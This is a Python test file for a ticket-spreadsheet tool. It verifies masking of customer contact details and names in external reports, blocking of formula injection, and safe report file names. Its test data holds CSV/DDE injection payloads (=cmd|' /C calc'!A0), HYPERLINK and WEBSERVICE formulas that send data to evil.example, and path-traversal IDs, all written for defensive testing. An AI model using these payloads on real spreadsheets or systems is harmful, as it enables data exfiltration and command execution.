"""Hostile text in, nothing leaked or executed out: masking of what people really type in the external
report, no live formula in any file sheetdesk writes, report file names that stay inside the archive."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
import zipfile
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sheetdesk.rules.contacts import is_valid_phone, mask_contact, scrub_text
from sheetdesk.rules.ids import file_name_problem
from tests.helpers import NOW, register_rows

FULL_WIDTH = str.maketrans("0123456789@", "０１２３４５６７８９＠")


def package_text(path: Path) -> dict[str, str]:
    """Every member of an xlsx package, decoded (all of them, not just the sheets)."""
    with zipfile.ZipFile(path) as z:
        return {name: z.read(name).decode("utf-8", errors="replace") for name in z.namelist()}


def texts_of(xml: str) -> list[str]:
    """The character data of a part, minus numeric cell values (<v>: serials, shared-string indexes)
    and sheetdesk's content hash."""
    xml = re.sub(r"<v>[^<]*</v>", "", xml)
    xml = re.sub(r"[0-9a-f]{64}", "", xml)
    return [t for t in re.findall(r">([^<]+)<", xml) if t.strip()]


def as_text_cells(wb) -> None:
    """What a clerk types as text ('=HYPERLINK… with a leading apostrophe) stays text in the desk."""
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value.startswith("="):
                    c.data_type = "s"


# --- item 5: masking ------------------------------------------------------------------------------

MOBILE, LANDLINE, OTHER = "13900002222", "01012345678", "13700001111"


def phone_forms(number: str) -> list[str]:
    """The ways people type one number."""
    a, b, c = number[:3], number[3:7], number[7:]
    return [number, f"{a}-{b}-{c}", f"{a} {b} {c}", f"{a}.{b}.{c}", number.translate(FULL_WIDTH),
            f"{a}－{b}－{c}", f"+86 {a} {b} {c}", f"+86{number}", f"0086 {a} {b} {c}", f"86{number}",
            f"(+86) {a}-{b}-{c}", f"{a}\u3000{b}\u3000{c}", f"{a}/{b}/{c}"]


CORPUS = (phone_forms(MOBILE) + phone_forms(OTHER)
          + ["(010)12345678", "(010) 1234 5678", "010-12345678", "010 1234 5678", "０１０－１２３４５６７８",
             "+86 10 1234 5678", "0086 10 12345678",
             "wang.nana＠example.com", "WANG.NANA@EXAMPLE.COM", "ｗａｎｇ．ｎａｎａ＠ｅｘａｍｐｌｅ．ｃｏｍ",
             "wang.nana ＠ example.com", "订单号 8827361945", "身份证 110105194912310021"])
#: each customer's name as people type it (only the report's own customer is known to the masking)
NAMES = {"Zhang Wei": ["Zhang Wei", "ZHANG WEI", "zhang wei", "ZhangWei", "zhang  wei", "Ｚｈａｎｇ Ｗｅｉ", "wei"],
         "王娜娜": ["王娜娜", "王 娜 娜", "娜娜"]}
#: what must not survive anywhere in the external package, in any spelling
SECRETS = [MOBILE[3:], OTHER[3:], "12345678", "8827361945"[:6], "1101051949", "wang.nana", "wangnana"]
NAME_SECRETS = {"Zhang Wei": ["zhangwei", "zhang", "wei"], "王娜娜": ["娜娜"]}


def test_masking_covers_what_people_type_in_every_part_of_the_external_report(make_desk, cli, tmp_path):
    def typed(customer):
        return [f"{i}: {text}" for i, text in enumerate(CORPUS + NAMES[customer])]

    ticket = {"id": "202611-001", "received": datetime(2026, 11, 2, 10), "channel": "电话", "customer": "Zhang Wei",
              "contact": "0086 137 0000 1111 / wang.nana＠example.com", "product": "X3 " + CORPUS[0],
              "description": "；".join(typed("Zhang Wei")[:20]), "expectation": "；".join(typed("Zhang Wei")[20:])}
    other = {**ticket, "id": "202611-002", "customer": "王娜娜", "contact": "１３９００００２２２２",
             "description": "娜娜说：" + "，".join(typed("王娜娜")),
             "expectation": "联系王娜娜或娜娜本人，见202611-001，2026-11-05 10:30上门"}
    log = [{"id": t["id"], "time": datetime(2026, 11, 2, 11), "by": "李工", "step": "首次响应",
            "note": " ".join(CORPUS + NAMES[t["customer"]])} for t in (ticket, other)]
    result = {"result": "已回电 " + CORPUS[3], "satisfaction": "满意", "comment": "表示感谢 " + CORPUS[-5],
              "rated_at": datetime(2026, 11, 5, 10), "prepared_by": "李工", "prepared_on": datetime(2026, 11, 5),
              "reviewer": "赵主管", "reviewed_on": datetime(2026, 11, 6)}
    results = [{**result, "id": t["id"], "remarks": " ".join(NAMES[t["customer"]])} for t in (ticket, other)]
    path = make_desk([ticket, other], progress=log, results=results)

    run = cli("report", path, "--all", "--external", "--now", NOW)

    assert run.exit_code == 0, run.output
    folder = tmp_path / "archive" / "2026" / "11"
    externals = sorted(folder.glob("*.external.xlsx"))
    assert [p.name for p in externals] == ["202611-001.external.xlsx", "202611-002.external.xlsx"]
    for ext, customer in zip(externals, ("Zhang Wei", "王娜娜")):
        for member, xml in package_text(ext).items():
            flat = unicodedata.normalize("NFKC", xml).casefold()
            for original in CORPUS + NAMES[customer][:-1]:
                assert original not in xml and unicodedata.normalize("NFKC", original).casefold() not in flat, \
                    (ext.name, member, original)
            for text in texts_of(xml):
                text = unicodedata.normalize("NFKC", text)
                squeezed = re.sub(r"[\s\-./()_]", "", text).casefold()
                for secret in SECRETS + NAME_SECRETS[customer]:
                    assert secret not in squeezed, (ext.name, member, secret, text)
                # no run of 7+ digits is left (separators allowed) but masked ones, dates and ticket IDs
                unmasked = re.sub(r"[0-9]*\*+[0-9]*", "|", text)
                for run in re.findall(r"[0-9](?:[\s\-./()_]{0,3}[0-9])*", unmasked):
                    if len(re.sub(r"[^0-9]", "", run)) >= 7:
                        assert re.fullmatch(r"20[0-9]{2}([-./])[0-9]{1,2}\1[0-9]{1,2}( [0-9]{1,2})?|2026(0[1-9]|1[0-2])-[0-9]{3}",
                                            run), (ext.name, member, run, text)
    f = {r[0]: r[1] for r in openpyxl.load_workbook(externals[0]).active.iter_rows(values_only=True) if r[0]}
    assert f["客户名称/单位"] == "Z********" and f["联系方式"] == "137****1111 / w***@example.com"
    g = {r[0]: r[1] for r in openpyxl.load_workbook(externals[1]).active.iter_rows(values_only=True) if r[0]}
    assert g["客户名称/单位"] == "王**" and g["联系方式"] == "139****2222"
    # dates and ticket IDs in free text are not contact details; the rest of the text stays as typed
    assert g["客户诉求"] == "联系王**或**本人，见202611-001，2026-11-05 10:30上门"
    assert g["问题描述"].startswith("**说：0: 139****2222，1: 139****2222，") and g["问题描述"].endswith("39: 王**，40: 王****，41: **")
    # the internal copy keeps everything
    internal = {r[0]: r[1] for r in openpyxl.load_workbook(folder / "202611-001.xlsx").active.iter_rows(values_only=True)
                if r[0]}
    assert internal["联系方式"] == ticket["contact"] and internal["客户名称/单位"] == "Zhang Wei"


@pytest.mark.parametrize("typed, masked", [
    ("(010)12345678", "010****5678"), ("１３９００００２２２２", "139****2222"), ("139.0000.2222", "139****2222"),
    ("0086 137 0000 1111", "137****1111"), ("+86 138 1234 5678", "138****5678"), ("8613812345678", "138****5678"),
    ("0755 1234 5678", "0755****5678"), ("400-123-4567", "400***4567"), ("13812345678 13912345678", "138****5678 139****5678"),
    ("wang.nana＠example.com", "w***@example.com"), ("13812345678@qq.com", "1***@qq.com"),
    ("订单 8827361945", "订单 ******1945"), ("+1 415 555 1234", "*******1234"),
    ("2026-11-05 10:30 上门", "2026-11-05 10:30 上门"), ("见 202611-001", "见 202611-001"), ("金额 1,234,567", "金额 1,234,567"),
])
def test_scrub_forms(typed, masked):
    assert scrub_text(typed, []) == masked


def test_names_in_any_case_and_given_names_alone():
    assert scrub_text("ZHANG WEI, zhang wei, ZhangWei, Wei; weird", ["Zhang Wei"]) == "Z********, z********, Z*******, ***; weird"
    assert scrub_text("娜娜说王娜娜和王 娜 娜都在", ["王娜娜"]) == "**说王**和王****都在"
    assert scrub_text("欧阳娜娜，娜娜", ["欧阳娜娜"]) == "欧***，**"
    assert scrub_text("王伟来电，伟大", ["王伟"]) == "王*来电，伟大"  # a one-character given name is not masked alone
    assert scrub_text("Acme Ltd 的 Ltd 部门", ["Acme Ltd"]) == "A******* 的 Ltd 部门"


def test_masking_long_text_takes_linear_time():
    import time

    started = time.monotonic()
    for text in ("x" * 30000 + " wang@example.com", "a." * 15000 + "@", "1-" * 15000, "13812345678 " * 2500):
        out = scrub_text(text, ["王娜娜", "Zhang Wei"])
        assert len(out) <= len(text)
    assert time.monotonic() - started < 20  # a backtracking pattern took minutes


mobiles = st.from_regex(r"\A1[3-9][0-9]{9}\Z").filter(is_valid_phone)  # valid mainland mobiles
separators = st.sampled_from(["", " ", "-", ".", "－", "\u3000", " - ", "/"])


@settings(max_examples=300, deadline=None)
@given(number=mobiles, sep=separators, prefix=st.sampled_from(["", "+86 ", "+86", "0086 ", "86", "(+86)"]),
       wide=st.booleans(), before=st.text(alphabet="客户电话是：，。号码 ", max_size=6),
       after=st.text(alphabet="客户电话是：，。号码 ", max_size=6))
def test_any_typed_mobile_keeps_at_most_its_head_and_last_four(number, sep, prefix, wide, before, after):
    typed = prefix + sep.join((number[:3], number[3:7], number[7:]))
    if wide:
        typed = typed.translate(FULL_WIDTH)
    out = scrub_text(before + typed + after, [])
    digits = re.sub(r"[^0-9]", "", unicodedata.normalize("NFKC", out))
    assert number[3:] not in digits and number[:3] + "****" + number[-4:] in out, (typed, out)
    assert out.startswith(before) and out.endswith(after)


@settings(max_examples=200, deadline=None)
@given(local=st.from_regex(r"\A[a-z][a-z0-9.]{2,12}\Z"), upper=st.booleans(), wide=st.booleans())
def test_any_typed_email_is_masked(local, upper, wide):
    typed = f"{local}@example.com"
    typed = typed.upper() if upper else typed
    typed = unicodedata.normalize("NFKC", typed).translate(str.maketrans({"@": "＠"})) if wide else typed
    out = scrub_text(f"邮箱{typed}。", [])
    assert out == f"邮箱{local[0]}***@example.com。" and mask_contact(typed) == f"{local[0]}***@example.com"


# --- item 6: no live formulas -------------------------------------------------------------------

HOSTILE = {"description": '=HYPERLINK("http://evil.example/?x="&A1,"点这里")',
           "expectation": "=cmd|' /C calc'!A0",
           "customer": '=WEBSERVICE("http://evil.example/")',
           "product": "@SUM(1+1)*cmd|' /C calc'!A0",
           "note": "+cmd|' /C notepad'!A0",
           "result": "=2+5+cmd|' /C calc'!A0",
           "comment": '=HYPERLINK("http://evil.example","x")',
           "remarks": "-2+3+cmd|' /C calc'!A0",
           "overdue_reason": '=WEBSERVICE("http://evil.example/reason")',
           "owner": '=HYPERLINK("http://evil.example/owner","李工")'}
MARKERS = ("HYPERLINK", "WEBSERVICE", "cmd|", "SUM(")


def formulas_in(path: Path) -> list[str]:
    found = []
    for member, xml in package_text(path).items():
        found += [f"{member}: {f}" for f in re.findall(r"<f\b[^>]*>([^<]*)</f>", xml)]
    return found


def hostile_desk(make_desk, tmp_path, engine="patch"):
    (tmp_path / "sheetdesk.toml").write_text(f'[desk]\nengine = "{engine}"\n', encoding="utf-8")
    ticket = {"id": "202611-001", "received": datetime(2026, 11, 2, 10), "channel": "电话",
              "customer": HOSTILE["customer"], "contact": "13812345678", "product": HOSTILE["product"],
              "description": HOSTILE["description"], "expectation": HOSTILE["expectation"], "category": "产品质量类",
              "owner": HOSTILE["owner"]}
    log = [{"id": "202611-001", "time": datetime(2026, 11, 2, 11), "by": "李工", "step": "首次响应", "note": HOSTILE["note"]},
           {"id": "202611-001", "time": datetime(2026, 11, 20, 15), "by": "李工", "step": "问题关闭", "note": HOSTILE["note"]}]
    result = {"id": "202611-001", "result": HOSTILE["result"], "satisfaction": "满意", "comment": HOSTILE["comment"],
              "rated_at": datetime(2026, 11, 21, 10), "prepared_by": "李工", "prepared_on": datetime(2026, 11, 21),
              "reviewer": "赵主管", "reviewed_on": datetime(2026, 11, 22), "remarks": HOSTILE["remarks"],
              "overdue_reason": HOSTILE["overdue_reason"]}
    return make_desk([ticket], progress=log, results=[result], edit=as_text_cells)


def test_report_and_summary_write_what_people_typed_as_text(make_desk, cli, tmp_path):
    path = hostile_desk(make_desk, tmp_path)
    assert cli("report", path, "202611-001", "--external", "--now", NOW).exit_code == 0
    summary = tmp_path / "summary.xlsx"
    run = cli("summary", path, "--month", "2026-11", "-o", summary, "--now", NOW)
    assert run.exit_code == 0, run.output
    weekly = tmp_path / "weekly.xlsx"
    assert cli("summary", path, "--week", "2026-W45", "-o", weekly, "--now", NOW).exit_code == 0
    folder = tmp_path / "archive" / "2026" / "11"
    outputs = [folder / "202611-001.xlsx", folder / "202611-001.external.xlsx", tmp_path / "archive" / "index.xlsx",
               summary, weekly]
    for out in outputs:
        assert formulas_in(out) == [], out
        assert "<hyperlink" not in "".join(package_text(out).values()) or out.name == "index.xlsx"
    internal = [c for row in openpyxl.load_workbook(outputs[0]).active.iter_rows() for c in row]
    typed = {c.value: c.data_type for c in internal if isinstance(c.value, str)}
    for key in ("description", "expectation", "customer", "product", "result", "comment", "remarks", "owner"):
        assert typed.get(HOSTILE[key]) == "s", key
    reasons = openpyxl.load_workbook(summary)["超时原因"]
    assert HOSTILE["overdue_reason"] in [c.value for c in reasons["A"]]
    assert any(HOSTILE["overdue_reason"] == c.value for ws in openpyxl.load_workbook(weekly) for r in ws.iter_rows()
               for c in r)


@pytest.mark.parametrize("engine", ["patch", "openpyxl"])
def test_refresh_copies_typed_text_into_tracker_and_follow_ups_as_text(make_desk, cli, tmp_path, engine):
    path = hostile_desk(make_desk, tmp_path, engine)
    run = cli("refresh", path, "--now", NOW)
    assert run.exit_code == 0, run.output
    parts = package_text(path)
    wb = openpyxl.load_workbook(path)
    copied = []
    for name in ("跟踪看板", "回访计划"):
        copied += [c.value for row in wb[name].iter_rows() for c in row if isinstance(c.value, str)]
    assert HOSTILE["customer"] in copied and HOSTILE["owner"] in copied  # the tracker copies them …
    for member, xml in parts.items():  # … and no formula anywhere carries what people typed
        for formula in re.findall(r"<f\b[^>]*>([^<]*)</f>", xml):
            assert not any(m in formula for m in MARKERS), (member, formula)


def test_rejected_csv_cells_cannot_run_and_the_fixed_file_imports_cleanly(make_desk, cli, tmp_path):
    desk = make_desk()
    header = ["工单号", "来电时间", "来电号码", "客户姓名", "问题内容", "渠道"]
    rows = [["A001", "2026-11-31 10:00", "+86 138 1234 5678", "=HYPERLINK(\"http://evil\",\"x\")",
             "=cmd|' /C calc'!A0", "@SUM(1)"],
            ["A002", "2026/11/05 10:00", "-13812345678", "\t+王五", "+1+cmd|' /C calc'!A0", "传真"]]
    src = tmp_path / "calls.csv"
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows([header, *rows])
    src.write_bytes(buf.getvalue().encode("utf-8"))
    mapping = tmp_path / "calls.toml"
    mapping.write_text('[import]\nexternal_ref = "工单号"\n[columns]\nreceived = "来电时间"\ncontact = "来电号码"\n'
                       '"客户名称" = "客户姓名"\ndescription = "问题内容"\nchannel = "渠道"\n', encoding="utf-8")

    result = cli("import", desk, src, "--map", mapping, "--now", NOW)

    assert result.exit_code == 0 and "拒绝 2 条" in result.output, result.output
    (rejected,) = tmp_path.glob("rejected-*.csv")
    table = list(csv.reader(io.StringIO(rejected.read_text(encoding="utf-8-sig"))))
    for row in table:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (row, cell)
    assert table[1][2:5] == ["'+86 138 1234 5678", "'=HYPERLINK(\"http://evil\",\"x\")", "'=cmd|' /C calc'!A0"]
    assert table[2][2:4] == ["'-13812345678", "'\t+王五"]

    # fix the dates and channels, import the file again: the guard is gone from what lands
    fixed = [r[:6] + [""] for r in table[1:]]
    fixed[0][1], fixed[0][5], fixed[1][5], fixed[1][2] = "2026-11-20 10:00", "电话", "电话", "13812345678"
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows([table[0], *fixed])
    rejected.write_bytes(buf.getvalue().encode("utf-8-sig"))
    again = cli("import", desk, rejected, "--map", mapping, "--now", NOW)
    assert again.exit_code == 0 and "已导入 2 条" in again.output, again.output
    landed = list(register_rows(desk).values())
    assert [r["contact"] for r in landed] == ["+86 138 1234 5678", "13812345678"]
    # the guard is gone; a leading = becomes ＝ as for every import (sheetdesk's own rule, so it stays text)
    assert [(r["customer"], r["description"]) for r in landed] == [
        ('＝HYPERLINK("http://evil","x")', "＝cmd|' /C calc'!A0"), ("+王五", "+1+cmd|' /C calc'!A0")]
    assert formulas_in(desk) == []


# --- item 7: report file names --------------------------------------------------------------------

def test_report_names_stay_inside_the_archive(make_desk, cli, tmp_path):
    victim = tmp_path / "archive" / "2026" / "victim"
    victim.mkdir(parents=True)
    (victim / "newfile.xlsx").write_bytes(b"precious")
    ids = ["202611-001", "../victim/newfile", "../../../../escape", "CON", "NUL.external", "COM1", "a:b*c",
           "..\\..\\win"]
    tickets = [{"id": i, "received": datetime(2026, 11, 2, 10), "channel": "电话", "customer": "王小明",
                "contact": "13812345678", "description": "无法开机"} for i in ids]
    results = [{"id": i, "result": "已修复", "satisfaction": "满意", "rated_at": datetime(2026, 11, 5, 10),
                "prepared_by": "李工", "prepared_on": datetime(2026, 11, 5), "reviewer": "赵主管",
                "reviewed_on": datetime(2026, 11, 6),
                # eight alike in a week are a batch (批量问题): archived only after the manager's review
                "second_reviewer": "钱经理", "second_reviewed_on": datetime(2026, 11, 7)} for i in ids]
    path = make_desk(tickets, results=results)
    before = sorted(p for p in tmp_path.rglob("*") if p.is_file())

    run = cli("report", path, "--all", "--external", "--now", NOW)

    assert run.exit_code == 0, run.output
    assert "Traceback" not in run.output and "内部错误" not in run.output
    written = sorted(p for p in tmp_path.rglob("*") if p.is_file() and p not in before)
    archive = (tmp_path / "archive").resolve()
    assert all(p.resolve().is_relative_to(archive) for p in written), written
    assert sorted(p.name for p in (archive / "2026" / "11").iterdir()) == ["202611-001.external.xlsx", "202611-001.xlsx"]
    assert (victim / "newfile.xlsx").read_bytes() == b"precious" and len(list(victim.iterdir())) == 1
    refused = [line for line in run.output.splitlines() if "未生成报告" in line]
    assert len(refused) == len(ids) - 1, run.output  # one line per refused ID
    assert any("“../victim/newfile”" in line for line in refused) and any("“CON”" in line for line in refused)

    named = cli("report", path, "../victim/newfile", "--lang", "en", "--now", NOW)
    assert named.exit_code == 2 and "ID '../victim/newfile' holds characters not allowed" in named.output
    assert (victim / "newfile.xlsx").read_bytes() == b"precious"


@pytest.mark.parametrize("name", ["CON", "con", "PRN", "AUX", "NUL", "NUL.txt", "COM1", "LPT9", "COM\u00b9", "CONIN$",
                                  "a<b", "a>b", 'a"b', "a|b", "a?b", "a*b", "a:b", "a/b", "a\\b", "a\x01b",
                                  "..", "202611-001.", " 202611-001", "202611-001 ", "２０２６１１-００１", "202613-001"])
def test_file_name_problem_refuses_what_windows_or_the_grammar_refuses(name):
    assert file_name_problem(name) is not None
    assert file_name_problem("202611-001") is None and file_name_problem("202612-1234") is None


def test_an_unrecognised_existing_file_does_not_recurse(make_desk, tmp_path, monkeypatch):
    from sheetdesk.app import reports

    folder = tmp_path / "archive" / "2026" / "11"
    folder.mkdir(parents=True)
    (folder / "202611-001.xlsx").write_bytes(b"not ours")
    monkeypatch.setattr(reports, "_versions", lambda *args: [])
    rep = reports.Report("zh", "202611-001", "王小明", "", datetime(2026, 11, 2), "", "", "", "", "", "", "", "", "", None)
    with pytest.raises(reports.SheetdeskError, match="已存在"):
        reports.archive_report(tmp_path / "archive", rep, lambda r, p, d, w: p.write_bytes(b"x"))
    assert (folder / "202611-001.xlsx").read_bytes() == b"not ours"
